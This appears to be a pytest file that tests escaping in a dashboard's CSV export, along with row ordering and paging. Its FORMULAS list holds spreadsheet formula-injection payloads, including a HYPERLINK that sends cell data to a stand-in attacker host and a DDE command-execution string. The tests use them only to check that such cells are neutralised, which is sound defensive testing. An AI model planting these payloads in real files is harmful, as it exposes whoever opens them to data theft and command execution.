""" "Download as CSV": cells a spreadsheet would run as formulas are escaped, everything else is verbatim."""

from __future__ import annotations

import csv
import io

import pytest

from predictions.dashboard import queries
from predictions.store.records import PredictionRow

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Paris", " =not first", "a = b", "", "'already quoted"]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_prefixed_with_a_quote_in_every_text_column(store, cell):
    store.write_predictions([PredictionRow(cell, 1, 10, 0, prompt=cell, prediction=cell, ground_truth=cell)])
    (row,) = read_csv(queries.job_csv(store, cell))
    for column in ("job_id", "prompt", "ground_truth", "prediction"):
        assert row[column] == "'" + cell, column


def test_other_cells_and_numbers_are_written_verbatim(store):
    rows = [
        PredictionRow(
            "job", 1, 10, i, prompt=text, prediction=text, ground_truth="Paris", exact_match=float(i % 2)
        )
        for i, text in enumerate(HARMLESS)
    ]
    store.write_predictions(rows)
    read = read_csv(queries.job_csv(store, "job"))
    assert [row["prediction"] for row in read] == HARMLESS
    assert [row["prompt"] for row in read] == HARMLESS
    assert {row["exact_match"] for row in read} == {"0.0", "1.0"}
    assert {row["step"] for row in read} == {"10"}


def test_line_breaks_inside_a_cell_stay_inside_it(store):
    texts = ["two\nlines", "carriage\rreturn", "both\r\nends"]
    store.write_predictions([PredictionRow("job", 1, 10, i, "p", text) for i, text in enumerate(texts)])
    assert [row["prediction"] for row in read_csv(queries.job_csv(store, "job"))] == texts


def test_a_job_larger_than_a_page_is_exported_whole_in_order_with_fixed_columns(store):
    """Keyset pages of 1,000: 2,500 rows over 5 rounds, a user score only from round 3 on."""
    store.write_predictions(
        [
            PredictionRow("job", 1, step, i, "p", f"{step}-{i}", scores={"judge": 0.5} if step >= 3 else None)
            for step in range(1, 6)
            for i in range(500)
        ]
    )
    read = read_csv(queries.job_csv(store, "job"))
    assert [row["prediction"] for row in read] == [f"{s}-{i}" for s in range(1, 6) for i in range(500)]
    assert list(read[0]) == list(read[-1]) and list(read[0])[-1] == "judge"
    assert {row["judge"] for row in read[:1000]} == {""} and {row["judge"] for row in read[1000:]} == {"0.5"}
